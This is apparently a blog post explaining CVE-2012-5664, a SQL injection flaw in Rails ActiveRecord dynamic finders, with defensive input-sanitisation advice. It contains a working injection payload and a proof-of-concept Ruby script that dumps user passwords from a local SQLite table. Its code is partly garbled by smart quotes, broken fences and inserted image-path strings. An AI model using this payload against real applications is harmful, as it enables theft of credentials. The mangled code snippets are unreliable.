CVE-2012-5664: Sql Injection onRails... again

2013 is well promising for application security. Two days ago Aaron Patterson, a rails core member announced a SQL Injection vulnerability for ActiveRecord ORM included in Rails framework.

Last June we talked about a similiar vulnerability affecting ActiveRecord.

Dynamic finders

The vulnerability is in ORM resource dynamic finder methods.

Carefully crafted requests can be used to turn a dynamic finder method parameter into a query scope.

Let us suppose you have a User model with two fields: an email and a password. We also suppose that our code will take an id parameter from the outside and using it to retrieve a user from the backend.

You can retrieve a user with a given id with a call like this one:

``` ruby ActiveRecord find_by_id u = User.find_by_id(params[:id])

The find\_by\_id method is not explicity declared by the User model, it's
dynamically created by ActiveRecord as well the methods:

* find\_by\_email
* find\_by\_password

## Exploiting it

If the parameter id passed to the dynamic find\_by\_id method, contains an Hash
this is used as options to the SELECT statement instead of being part of theWHERE clause.

``` ruby the difference between a regular call and the attack
User.find_by_id(1) # REGULAR CALL => SELECT "users".* FROM "users" WHERE "users"."id" = 1 LIMIT 1
User.find_by_id({:select =>"* from users where id=4 --"}) # INJECTION => SELECT * from users where id=4 -- FROM "users" WHERE "users"."id" IS NULL LIMIT 1

This very trivial ruby scriptshows an in memory SQLite3 database managed with ActiveRecord as ORM.

``` ruby cve-2012-5664.rb #!/usr/bin/env ruby

require ‘active_record’ require ‘logger’

ActiveRecord::Base.logger =

ActiveRecord::Base.establish_connection( :adapter => “sqlite3”, :database => “:memory:” )

ActiveRecord::Schema.define do create_table :users do |table| table.column :email, :string table.column :password, :string end end

class User < ActiveRecord::Base endUser.create(:email=>’admin_email’, :password=>’admin_pwd’) User.create(:email=>’foo_email’, :password=>’foo_pwd’) User.create(:email=>’bar_email’, :password=>’bar_pwd’) User.create(:email=>’vuln_email’, :password=>’vuln_pwd’)

puts “Using ActiveRecord #{ActiveRecord::VERSION::STRING}” puts “Exploiting find_by_id”

100.times do |i| u = User.find_by_id({:select =>”* from users where id=#{i} –”}) puts “Password for user with id #{i} is: #{u.password}” unless u.nil? end

## The old fashioned defensive programming practice

ActiveRecord dynamic finders don't care about the input you pass them. Of
course it could be up to your application to properly sanitize the input
instead of passing params directly to find\_by\_id method.

I rather prefer this approach since your application knows exactly the meaning
of that line of code.

If you want your code to be robust against SQL Injection you must sanitize your input before moving forth.

If you need to call find\_by\_id, the parameter **must** be an integer
identifier, so your approach would be explicitly casting to an Integer object.

``` ruby sanitize your find_by_id
sanitized_id = params[:id] # you have to consider the value tampered here

  sanitized_id = sanitized_id.to_i# make your business logic specific choice here.
  #   * Can an id be negative?
  #   * Can an id be 0?
  #   * Have you got some particular constraint about ids? (e.g. valid ids are between 500 and 1200)
  sanitized_id = nil if sanitized_id <= 0
  sanitized_id = nil unless ( sanitized_id >= 500 and sanitized_id <= 1200)
rescue NoMethodError
  sanitized_id = nil

u = User.find_by_id(sanitized_id)

# Do your stuff


Of course this is just an example showing a security aware approach when reading a parameter that you want to manage like an Integer before using it in your ORM of choice.

Do you think adding some security checks break your agile workout? Do you think it’s just an unnecessary step adding latency to your fast and furious website?

You may want to think it twice before answering. My point of view is that for sentive parameters read from HTTP request you have to carefully handle it before passing to backend.Off by one

On Hacker news you can find some comments about recent Github security issue exploiting Rails using this SQL Injection to override some popular Rails authentication framework.

On Phusion blog a more detailed and security awaredissertion was made in order to explain that there is of course a problem in the dynamic finder methods for ActiveRecord but exploiting it it’s a very hard task. And I agree with it.

The main problem looking at the patch is that in my opinion, it solves this problem but it doesn’t make a solid framework for input validation before building the query.

Adding your web application code to some positive filtering for the parameters you read helps you in:

  • be transparent about the security model of your underlying framework
  • be confident that input will fit what you expect from the user with ad hoc controls

The overhead in execution time can be, of course, an issue for impatientdevelopers but the tradeoff between being compromised and having a couple of if statements to be executed can be a well toleratedsolution.

What do you thinkabout it? Is defensive programming a solution or just a redundant piece of code? Tellme your thoughts.

comments powered by Disqus